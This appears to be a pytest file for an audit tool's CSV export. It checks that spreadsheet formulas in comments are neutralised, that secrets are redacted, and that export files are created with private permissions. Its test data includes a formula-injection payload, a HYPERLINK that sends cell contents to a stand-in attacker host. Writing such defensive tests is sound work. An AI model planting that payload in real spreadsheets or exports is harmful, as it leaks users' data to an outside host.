"""The auditor's CSV export is safe to open (issue 16): a comment such as
``=HYPERLINK(...)`` is neutralised as OWASP recommends and reads back exactly (the
hash chain still verifies), and the export is scrubbed of the secrets the machine
holds. File modes are tested end to end in test_audit_cli.py's campaign."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from test_history import recorded

from engine.audit import chain_head as head
from engine.audit import export_records, read_timeline, to_csv, verify_export
from mops.cli._exports import export_mode, write_export

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
    "'=already quoted",
]


def _with_comment(comment: str) -> list[dict[str, object]]:
    timeline = read_timeline([recorded()])
    entries = [e.model_copy(update={"comment": comment}) for e in timeline.entries]
    return export_records([timeline.model_copy(update={"entries": tuple(entries)})])


@pytest.mark.parametrize("comment", FORMULAS)
def test_a_formula_in_a_cell_is_neutralised_and_reads_back_exactly(comment: str) -> None:
    chained = _with_comment(comment)
    text = to_csv(chained)
    rows = list(csv.DictReader(io.StringIO(text)))
    # A spreadsheet sees text starting with a quote mark, never a formula.
    assert {row["comment"] for row in rows} == {"'" + comment}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The hash chain is over the records as they were: the export verifies.
    assert verify_export(text, expected_head=head(chained))[1:] == (head(chained), None)


def test_every_text_cell_is_quoted() -> None:
    text = to_csv(_with_comment("plain"))
    header, first = text.splitlines()[:2]
    assert header.startswith('"seq","prev",')
    assert first.startswith('1,"')  # numbers stay numbers


def test_a_secret_in_a_comment_is_scrubbed_before_chaining() -> None:
    from workers import redact

    token = "tok_live_5e4d3c2b1a0f"
    timeline = read_timeline([recorded()])
    entries = [e.model_copy(update={"comment": f"use {token} please"}) for e in timeline.entries]
    chained = export_records(
        [timeline.model_copy(update={"entries": tuple(entries)})],
        scrub=lambda text: redact(text, [token]),
    )
    text = to_csv(chained)
    assert token not in text
    assert "use [secret] please" in text
    assert verify_export(text, expected_head=head(chained))[2] is None


def test_an_export_file_is_private_whatever_the_umask(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("MOPS_EXPORT_MODE", raising=False)
    wide = os.umask(0)
    try:
        write_export(tmp_path / "default.csv", "x\n", mode=export_mode())
        monkeypatch.setenv("MOPS_EXPORT_MODE", "640")
        write_export(tmp_path / "shared.csv", "x\n", mode=export_mode())
    finally:
        os.umask(wide)
    assert (tmp_path / "default.csv").stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "shared.csv").stat().st_mode & 0o777 == 0o640
